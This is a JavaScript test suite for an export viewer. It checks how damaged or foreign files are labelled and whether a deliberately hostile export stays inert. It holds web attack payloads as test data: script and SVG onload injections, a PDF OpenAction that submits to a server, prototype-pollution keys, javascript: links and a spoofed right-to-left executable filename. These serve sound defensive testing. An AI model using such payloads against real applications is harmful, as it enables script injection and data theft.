// What the viewer says of files that are not whole, and what it does with one that somebody wrote to do harm.

import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { test } from "node:test";
import { deflateSync } from "node:zlib";
import { assertQuiet, openBrowser, openWindow, takePicture } from "../lib/browser.mjs";
import { payloads } from "../lib/hostile.mjs";
import { Program } from "../lib/program.mjs";
import { choose, exportOf, goTo, keptViewer, openFile, verdict } from "../lib/viewer.mjs";
import { fileOf, partOf } from "../../viewer/tests/a-file.mjs";

test("cut, edited, written-again and foreign files are told apart, and what can be read is shown", async (t) => {
  const program = await Program.started(t);
  const [address, path] = [await keptViewer(program), exportOf(program, "marta@northbridge.example")];
  const bytes = readFileSync(path);
  const text = bytes.toString();
  const made = (name, content) => {
    const at = join(program.folder, name);
    writeFileSync(at, content);
    return at;
  };
  const files = [
    ["cut.json", bytes.subarray(0, 40_000), "The download did not finish"],
    ["edited.json", text.replace("Larkspur Health", "Larkspur Wealth"), "This file was changed or damaged after it was made"],
    ["indented.json", JSON.stringify(JSON.parse(text), null, 2), "Complete, but written again by another program"],
  ];
  const page = await openWindow(await openBrowser(t));
  for (const [name, content, expected] of files) {
    await openFile(page, address, made(name, content));
    assert.equal(await verdict(page), expected, name);
    await takePicture(page, `viewer-${name.replace(".json", "")}`);
    await goTo(page, "Conversations");
    await page.getByRole("link", { name: "Risk treatment plan and residual risk" }).click();
    await page.getByRole("heading", { name: "Risk treatment plan and residual risk" }).waitFor();
    await page.getByRole("button", { name: "Close this file" }).click();
  }
  for (const [name, content] of [["package.json", '{"name":"x"}'], ["photo.json", "\x89PNG"], ["empty.json", ""], ["list.json", "[1]"]]) {
    await page.goto(address);
    await choose(page, made(name, content));
    await page.getByRole("alert").getByText("This is not an export.").waitFor();
    assert.match(await page.getByRole("alert").innerText(), new RegExp(name));
  }
  await takePicture(page, "viewer-foreign");
  assertQuiet(page);
});

/** An export in which every text of every record is hostile. */
function hostileFile(server) {
  const list = payloads(server);
  const all = list.join("\n\n");
  const name = (at) => list[at % list.length];
  const html = "<!doctype html><script>top.ran = 1; parent.ran = 1; window.ran = 1</script>";
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"><script>window.ran=1</script><image href="${server}/svg.png" width="10" height="10"/></svg>`;
  const action = `/S /JavaScript /JS (app.alert(1); this.submitForm("${server}/pdf"))`;
  const packed = deflateSync(`1 0 << /Type /Catalog /OpenAction << ${action} >> >>`).toString("latin1");
  const files = [
    ["page.html", "text/html", html], ["drawing.svg", "image/svg+xml", svg], ["lies.png", "image/png", html],
    ["acts.pdf", "application/pdf", `%PDF-1.7\n1 0 obj << /OpenAction << ${action} >> >> endobj\n%%EOF`],
    ["hides.pdf", "application/pdf", Buffer.from(`%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n${packed}\nendstream endobj\n%%EOF`, "latin1")],
    ["notes.md", "text/markdown", all], ["../../\u202egnp.exe", "application/octet-stream", "MZ\0\0"],
  ];
  const proto = JSON.parse(`{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"note":${JSON.stringify(all)}}`);
  const of = (index) => ({ extra: proto, id: `id ${name(index)} ${index}` });
  const threads = list.map((payload, at) => ({ ...of(at), workspace_id: at % 2 ? `id ${name(0)} 0` : null, title: payload, persona: payload, status: payload, created_at: payload }));
  return fileOf({
    workspaces: list.map((payload, at) => ({ ...of(at), name: payload, description: all, project_instructions: all, access: payload })),
    threads,
    messages: threads.flatMap(({ id }, at) => [
      { ...of(at * 2), thread_id: id, role: "user", author_user_id: "me", content: all, content_parts: proto, sources: [{ url: "javascript:window.ran=1", title: name(at) }, name(at)], persona: name(at), model: name(at), created_at: name(at), file_ids: files.map(([file]) => file) },
      { ...of(at * 2 + 1), thread_id: id, role: name(at), author_user_id: name(at), content: all, deleted_at: name(at) },
    ]),
    uploaded_files: files.map(([file, type, bytes]) => ({ id: file, name: file, media_type: type, size_bytes: bytes.length, extracted_text: all, status: name(1), created_at: name(2) })),
    generated_documents: list.map((payload, at) => ({ ...of(at), name: payload, title: payload, format: payload, media_type: payload, content: all })),
    workspace_memories: list.map((payload, at) => ({ ...of(at), workspace_id: `id ${name(0)} 0`, content: payload, source: payload })),
    user_memories: list.map((payload, at) => ({ ...of(at), content: payload, source: payload })),
    subscriptions: list.map((payload, at) => ({ ...of(at), plan: payload, status: payload, currency: payload, unit_amount_minor: 100 })),
    other_records: list.map((payload, at) => ({ ...of(at), collection: payload, created_at: payload })),
    file_contents: files.map(([file, , bytes]) => partOf("uploaded_files", file, bytes)),
    gaps: list.map((payload) => ({ code: payload, section: payload, id: payload, field: payload, reason: payload })),
  }, { change: (document) => ({ ...document, account_settings: { ...proto, email: all, display_name: name(0), consents: list }, export: {
    ...document.export, product: all, subject_id: "me", snapshot_at: name(3), generator: { name: name(4), version: name(5) }, withheld: list.map((payload) => ({ section: payload, what: payload, ground: payload, reason: payload })),
    processing: { controller: name(1), contact: name(2), purposes: list, recipients: list, retention: all, rights: all },
  } }) });
}

/** A server that notes whoever asks it. */
async function listening(t) {
  const asked = [];
  const server = createServer((request, answer) => {
    asked.push(request.url);
    answer.end();
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  t.after(() => server.close());
  return { asked, url: `http://127.0.0.1:${server.address().port}` };
}

test("a hostile file runs nothing and asks for nothing, on any page and in any preview", async (t) => {
  const program = await Program.started(t);
  const [address, server] = [await keptViewer(program), await listening(t)];
  const path = join(program.folder, "hostile.json");
  writeFileSync(path, hostileFile(server.url));
  const page = await openWindow(await openBrowser(t));
  const requests = [];
  const events = [];
  page.context().on("request", (request) => requests.push(request.url()));
  page.on("dialog", (dialog) => { events.push(`dialog ${dialog.message()}`); dialog.dismiss(); });
  page.context().on("page", (opened) => events.push(`page ${opened.url()}`));
  page.on("framenavigated", (frame) => { if (!/^(?:file|blob):/.test(frame.url())) events.push(`frame ${frame.url()}`); });
  await openFile(page, address, path);
  await verdict(page);
  await takePicture(page, "viewer-hostile-overview");
  const pages = ["#/", "#/threads", "#/workspace/0", "#/workspace/1", "#/workspace/none", "#/thread/0", "#/thread/1", "#/thread/14", "#/files", "#/documents", "#/memories", "#/account", "#/other", "#/missing", "#/search?q=ran", "#/search?q=%3Cscript%3E", "#/record/user_memories/3", "#/record/gaps/2", "#/<script>window.ran=1</script>", "#/other?collection=<img src=x onerror=window.ran=1>", "#/thread/999999", "#/record/__proto__/0"];
  for (const hash of pages) {
    await page.evaluate((to) => { location.hash = to; }, hash);
    await page.waitForTimeout(250);
    await page.locator("h1").first().waitFor({ state: "attached" });
    await page.locator("details").evaluateAll((all) => all.slice(0, 60).forEach((details) => { details.open = true; }));
    assert.equal(await page.locator("main :is(script, link, meta, object, embed, base, form:not(.search), iframe, img)").count(), 0, hash);
  }
  await page.evaluate(() => { location.hash = "#/files"; });
  await page.getByRole("heading", { name: "Uploaded files", level: 1 }).waitFor();
  await takePicture(page, "viewer-hostile-files");
  for (const button of await page.getByRole("button", { name: /^Preview / }).all()) {
    await button.click();
    await page.locator("dialog").waitFor();
    await page.waitForTimeout(300);
    assert.equal(await page.locator("dialog :is(script, iframe, form)").count(), 0, await button.getAttribute("aria-label"));
    await page.keyboard.press("Escape");
    await page.locator("dialog").waitFor({ state: "detached" });
  }
  await page.evaluate(() => { location.hash = "#/thread/14"; });
  await page.locator(".message").first().waitFor();
  const links = await page.locator("main a").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
  assert.deepEqual(links.filter((href) => !/^(?:#|https?:)/.test(href)), []);
  for (const link of await page.locator("main a[href^=http]").all()) assert.match(await link.getAttribute("rel"), /noreferrer/);
  assert.match(await page.locator("h1").innerText(), /U\+202E/, "what turns letters around is shown");
  await takePicture(page, "viewer-hostile-conversation");
  assert.equal(await page.evaluate(() => window.ran ?? Object.prototype.polluted), undefined);
  assert.deepEqual(requests.filter((url) => url !== address && !/^(?:blob|data):/.test(url)), []);
  assert.deepEqual([server.asked, events], [[], []]);
  assertQuiet(page);
});

test("the browser itself refuses whatever the page might try to send, load or run", async (t) => {
  const program = await Program.started(t);
  const [address, server] = [await keptViewer(program), await listening(t)];
  const page = await openWindow(await openBrowser(t));
  await page.goto(address);
  const outcomes = await page.evaluate(async (url) => {
    const tried = {};
    const attempt = async (name, act) => {
      try {
        tried[name] = await act();
      } catch (error) {
        tried[name] = `refused: ${error.name}`;
      }
    };
    const loads = (element, set) => new Promise((done) => {
      element.onload = () => done("loaded");
      element.onerror = () => done("refused");
      set(element);
      document.body.append(element);
      setTimeout(() => done("nothing"), 700);
    });
    await attempt("fetch", () => fetch(`${url}/fetch`).then(() => "sent"));
    await attempt("blob fetch", () => fetch(URL.createObjectURL(new Blob(["x"]))).then(() => "sent"));
    await attempt("socket", () => new Promise((done) => { const socket = new WebSocket(url.replace("http", "ws")); socket.onopen = () => done("open"); socket.onerror = () => done("refused"); }));
    await attempt("picture", () => loads(new Image(), (element) => { element.src = `${url}/picture`; }));
    await attempt("style", () => loads(document.createElement("link"), (element) => { element.rel = "stylesheet"; element.href = `${url}/style`; }));
    await attempt("frame", () => loads(document.createElement("iframe"), (element) => { element.src = `${url}/frame`; }).then(() => "asked"));
    await attempt("markup", () => { document.body.innerHTML += "<b>x</b>"; return "made"; });
    await attempt("script", () => { const script = document.createElement("script"); script.textContent = "window.ran = 1"; document.body.append(script); return window.ran ? "ran" : "refused"; });
    await attempt("code", () => { const code = "window.ran = 1"; return (0, eval)(code) ? "ran" : "refused"; });
    await attempt("worker", () => { new Worker(`${url}/worker`); return "started"; });
    await attempt("form", () => { const form = document.createElement("form"); form.action = `${url}/form`; form.target = "_blank"; document.body.append(form); form.submit(); return "submitted"; });
    navigator.sendBeacon(`${url}/beacon`, "x");
    await new Promise((done) => setTimeout(done, 500));
    return tried;
  }, server.url);
  assert.deepEqual(server.asked, [], JSON.stringify(outcomes));
  for (const name of ["fetch", "blob fetch", "socket", "picture", "style", "markup", "script", "code", "worker"]) assert.match(outcomes[name], /^(?:refused|nothing)/, name);
});
